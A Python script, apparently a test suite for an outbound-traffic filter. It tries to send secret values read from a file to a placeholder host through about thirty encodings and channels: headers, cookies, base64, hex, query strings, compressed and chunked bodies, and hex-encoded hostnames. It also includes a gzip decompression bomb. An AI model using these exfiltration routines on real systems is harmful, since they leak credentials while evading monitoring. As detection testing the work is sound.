"""Sends values that it found in a file, in every way that a request offers."""
import gzip
import tricks
import urllib.parse
import zlib
from tricks import *

OPEN = "open.acme.example"
NOTES = dict(line.rstrip("\n").split("=", 1) for line in open("notes.txt"))


def talk_to(host, data):
    with api(host) as sock:
        return talk(sock, data)


def send(name, target="/", headers=(), body=b"", method="POST", host=OPEN):
    def attempt():
        return talk_to(host, request(f"/{name}{target}", method, host, headers, body, auth=False))

    TRICKS[name] = attempt


def chunked(name, pieces, coding=None):
    def attempt():
        headers = ["Transfer-Encoding: chunked"] + ([f"Content-Encoding: {coding}"] if coding else [])
        with api(OPEN) as sock:
            sock.sendall(request(f"/{name}", "POST", OPEN, headers, auth=False))
            try:
                for piece in [*pieces, b""]:
                    sock.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
                    time.sleep(0.02)
            except OSError:
                pass
            return drain(sock)

    TRICKS[name] = attempt


def each_way(kind, value):
    raw = value.encode()
    b64 = base64.b64encode(raw).decode()
    json_body = json.dumps({"text": f"the token is {value}, do not tell"}).encode()
    unicode_body = ("{\"text\":\"" + "".join(f"\\u{byte:04x}" for byte in raw) + "\"}").encode()
    send(f"{kind}_header", headers=[f"X-Any: {value}"])
    send(f"{kind}_agent", headers=[f"User-Agent: mine/1 ({value})"])
    send(f"{kind}_name", headers=[f"X-{value}: yes"])
    send(f"{kind}_bearer", headers=[f"Authorization: Bearer {value}"])
    basic = base64.b64encode(f"user:{value}".encode()).decode()
    send(f"{kind}_basic", headers=[f"Authorization: Basic {basic}"])
    send(f"{kind}_cookie", headers=[f"Cookie: a=b; session={value}"])
    send(f"{kind}_hex", headers=[f"X-Any: {raw.hex()}"])
    send(f"{kind}_hex_upper", headers=[f"X-Any: {raw.hex().upper()}"])
    send(f"{kind}_base64", headers=[f"X-Any: {b64}"])
    send(f"{kind}_base64url", headers=[f"X-Any: {base64.urlsafe_b64encode(b'a' + raw).decode()}"])
    send(f"{kind}_query", f"?q={urllib.parse.quote(value)}")
    send(f"{kind}_query_key", f"?{urllib.parse.quote(value)}=1")
    send(f"{kind}_query_percent", "?q=" + "".join(f"%{byte:02X}" for byte in raw))
    send(f"{kind}_path", f"/{urllib.parse.quote(value)}/x")
    send(f"{kind}_get", f"?q={urllib.parse.quote(value)}", method="GET")
    send(f"{kind}_body", body=raw)
    send(f"{kind}_json", body=json_body, headers=["Content-Type: application/json"])
    send(f"{kind}_unicode", body=unicode_body, headers=["Content-Type: application/json"])
    send(f"{kind}_form", body=urllib.parse.urlencode({"a": "1", "v": value}).encode())
    send(f"{kind}_base64_body", body=base64.encodebytes(b"lead " + raw + b" tail" * 20))
    send(f"{kind}_utf16", body=value.encode("utf-16-le"))
    send(f"{kind}_gzip", body=gzip.compress(json_body), headers=["Content-Encoding: gzip"])
    send(f"{kind}_deflate", body=zlib.compress(json_body), headers=["Content-Encoding: deflate"])
    send(f"{kind}_late", body=b"x" * 20_000 + raw)
    send(f"{kind}_large", body=b"x" * 300_000 + raw + b"y" * 100_000)
    half = len(raw) // 2
    chunked(f"{kind}_chunked", [b"begin ", json_body, b" end"])
    chunked(f"{kind}_chunks", [b"begin ", raw[:half], raw[half:], b" end"])
    chunked(f"{kind}_chunked_base64", [b"begin ", b64[:7].encode(), b64[7:].encode(), b" end"])
    send(f"{kind}_to_own", headers=[f"X-Any: {value}"], host=API)


for kind, value in NOTES.items():
    if kind != "harmless":
        each_way(kind, value)



def named():
    """As the name of a host: of a request, and of one that names another than its connection."""
    host = NOTES["masked"].encode().hex() + ".example"
    seen = b""
    for target in ("/", f"http://{OPEN}/"):
        with dial("192.0.2.1", 80) as sock:
            seen += talk(sock, request(target, host=host, auth=False))
    return seen


TRICKS["named"] = named
send("harmless", headers=[f"X-Any: {NOTES['harmless']}"], body=NOTES["harmless"].encode())
send("placeholder", headers=[f"X-Any: {TOKEN}"], body=TOKEN.encode())
send("own", method="GET", headers=[f"Authorization: Bearer {TOKEN}"], host=API)
send("bomb", body=gzip.compress(bytes(20 << 20)), headers=["Content-Encoding: gzip"])
send("lying", body=b"this is no gzip", headers=["Content-Encoding: gzip"])

main()
